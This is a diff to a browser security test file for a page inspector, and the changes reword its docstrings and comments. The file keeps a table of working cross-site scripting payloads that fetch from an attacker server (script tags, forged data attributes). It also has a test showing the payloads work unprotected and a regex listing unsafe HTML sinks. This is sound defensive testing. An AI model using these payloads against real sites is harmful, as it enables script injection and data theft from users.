@@ -1,8 +1,8 @@
-"""Attacks from a page on the inspector: none runs, and nothing is asked of any other server.
+"""Attacks from a page on the inspector: none runs, and no other server gets a request.
 
-Every attack is made twice: as a page that is given to the service, and as if the service itself had let
-everything pass, with the page's markup in every text that the inspector shows. A third test shows that the
-attacks are real: opened without protection, they reach the attacker's server.
+Every attack is made twice: as a page that is sent to the service, and with the page's markup in every text of
+the response, as if the service filtered nothing. A third test shows that the attacks are real: opened without
+protection, they reach the attacker's server.
 """
 
 import json
@@ -18,8 +18,8 @@ import pytest
 
 Open = Callable[..., Any]
 
-# {0} is the address of the attacker's server. The second part says whether an attack does nothing by itself:
-# it waits for a click, or for a program that writes the page anew.
+# {0} is the URL of the attacker's server. The second part says whether an attack does nothing by itself: it
+# waits for a click, or for a program that rewrites the page.
 ATTACKS: dict[str, tuple[str, bool]] = {
     "script": ("<script>fetch('{0}');top.pwned=1</script>", False),
     "script from elsewhere": ("<script src='{0}'></script>", False),
@@ -76,12 +76,12 @@ ATTACKS: dict[str, tuple[str, bool]] = {
     "names of the inspector": ("<p id=notice name=state data-block=0>Text</p><img name=body>", True),
     "forged block": ("<span data-block='<img src={0}>' data-hidden=\"'><img src={0}>\">Text</span>", True),
 }
-FILLER = "<p>The tower was built in 1911, and it leans, as every visitor of the town is told at once.</p>"
+FILLER = "<p>The tower was built in 1911, and it leans, as every visitor of the town hears at once.</p>"
 NAMES = list(ATTACKS)
 
 
 class Attacker:
-    """The attacker's server: it notes who comes, and serves the attacks as they are."""
+    """The attacker's server: it records requests, and serves the attacks unchanged."""
 
     def __init__(self) -> None:
         self.asked: list[str] = []
@@ -113,7 +113,7 @@ class Attacker:
 
     @property
     def stolen(self) -> list[str]:
-        """What was asked for by an attack."""
+        """The requests made by an attack."""
         return [path for path in self.asked if not path.startswith(("/raw/", "/favicon"))]
 
 
@@ -129,7 +129,7 @@ def attacker() -> Iterator[Attacker]:
 
 
 def watch(page: Any, address: str) -> list[str]:
-    """Addresses of other servers that the page asks for, from now on, and what it opens."""
+    """URLs of other servers that the page requests from now on, and windows that it opens."""
     wrong: list[str] = []
 
     def note_dialog(dialog: Any) -> None:
@@ -147,7 +147,7 @@ def watch(page: Any, address: str) -> list[str]:
 
 
 def try_it(page: Any, html: str) -> None:
-    """Paste a page, look at all that the inspector shows of it, and click where its links would be."""
+    """Paste a page, open all views of it, and click where its links would be."""
     page.evaluate(
         """html => {
             const given = new DataTransfer();
@@ -214,14 +214,14 @@ def test_no_attack_of_a_page_runs_or_reaches_its_server(open_inspector: Open, at
         check(page, address, wrong, attacker)
 
 
-def test_no_attack_runs_even_if_the_service_let_all_pass(open_inspector: Open, attacker: Attacker) -> None:
-    page = open_inspector(errors=True)  # the policy's, where it stops an attack
+def test_no_attack_runs_even_if_the_service_filters_nothing(open_inspector: Open, attacker: Attacker) -> None:
+    page = open_inspector(errors=True)  # messages of the policy, which stops attacks
     address = page.url
     wrong = watch(page, address)
     attack = ""
 
     def poison(route: Any) -> None:
-        """The true answer, with the attack wherever there is text in it."""
+        """The real response, with the attack in every text."""
         response = route.fetch()
         answer = response.json()
         answer["view"] = attack
@@ -252,7 +252,7 @@ def test_no_attack_runs_even_if_the_service_let_all_pass(open_inspector: Open, a
 
 
 def test_the_attacks_are_real(browser: Any, attacker: Attacker) -> None:
-    """Those that wait for nobody reach the attacker's server when their page is opened as it is."""
+    """Attacks that need no action reach the attacker's server when their page is opened directly."""
     harmless = []
     for number, name in enumerate(NAMES):
         if ATTACKS[name][1]:
@@ -289,7 +289,7 @@ def test_every_attack_is_in_the_table_of_the_documentation_and_no_other() -> Non
 
 
 def test_markup_is_never_set_in_the_inspector() -> None:
-    """No file of the page has a way to turn text into markup, but the frame's shell and the parser for it."""
+    """No file of the inspector can turn text into markup, except the frame's shell and the parser for it."""
     folder = Path(__file__).parents[3] / "src" / "maintext" / "serve" / "page"
     ways = re.compile(
         r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|setHTMLUnsafe|createContextualFragment"
